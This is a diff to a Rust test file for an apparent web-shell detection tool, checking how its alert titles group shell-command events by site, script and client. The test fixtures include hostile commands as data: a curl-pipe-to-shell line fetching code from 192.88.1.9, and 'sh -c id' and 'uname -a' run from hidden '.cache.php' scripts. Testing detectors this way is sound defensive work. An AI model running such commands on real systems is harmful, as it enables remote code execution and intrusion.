@@ -312,14 +312,52 @@ fn what_few_clients_do_is_not_ordinary() {
         events.push(at(2 * number + 1, "site3.example", client, "sh -c 'uname -a'"));
     }
     let first = &found(&events, usize::MAX)[0];
-    assert_eq!(first.title(), "Shell command from site3.example: .cache.php, by 3 clients, 6 requests, not blocked");
+    assert_eq!(
+        first.title(),
+        "Shell command from site3.example: .cache.php, by 192.88.1.1 and 2 more, 6 requests, not blocked"
+    );
 
     let mut events = day(&[], "", "");
     for (number, site) in ["site1.example", "site2.example", "site3.example"].into_iter().enumerate() {
         events.push(at(number, site, "192.88.1.1", "sh -c 'curl http://192.88.1.9/x | sh'"));
     }
     let first = &found(&events, usize::MAX)[0];
-    assert_eq!(first.title(), "Shell command from 3 sites: 3 scripts, by 192.88.1.1, 3 requests, not blocked");
+    assert_eq!(
+        first.title(),
+        "Shell command from site1.example and 2 more: .cache.php and 2 more, by 192.88.1.1, 3 requests, not blocked"
+    );
+}
+
+/// Several people type the same: what they have in common is no sign of one.
+#[test]
+fn the_same_command_of_two_people_is_two_incidents() {
+    let mut events = day(&[], "", "");
+    for (number, site, client) in [(1, "site3.example", "192.88.1.1"), (2, "site4.example", "192.88.1.2")] {
+        let script = format!("/srv/{site}/.cache{number}.php");
+        let rule = "shell-spawn";
+        events.push(Made { number: 3000 + number, rule, site, script: &script, client, command: "sh -c id" }.value());
+    }
+    let all = found(&events, usize::MAX);
+    assert_eq!(all[0].title(), "Shell command from site4.example: .cache2.php, by 192.88.1.2, 1 request, not blocked");
+    assert_eq!(all[1].title(), "Shell command from site3.example: .cache1.php, by 192.88.1.1, 1 request, not blocked");
+}
+
+/// A site that is contained has another virtual host from then on, and is the same.
+#[test]
+fn what_is_contained_meanwhile_is_one_site() {
+    let mut events = day(&[], "", "");
+    for number in 0..2_u64 {
+        let (script, client, rule) = ("/srv/site3.example/.cache.php", "192.88.1.1", "shell-spawn");
+        let made = Made { number: 3000 + number, rule, site: "site3.example", script, client, command: "sh -c id" };
+        let mut event = made.value();
+        if number == 1 {
+            event["portcullis"]["vhost"] = "contain-srv-site3-example".into();
+            event["url"] = json!({ "domain": "site3.example" });
+        }
+        events.push(event);
+    }
+    let first = &found(&events, usize::MAX)[0];
+    assert_eq!(first.title(), "Shell command from site3.example: .cache.php, by 192.88.1.1, 2 requests, not blocked");
 }
 
 /// A command that a shell takes apart is not like the ordinary one.
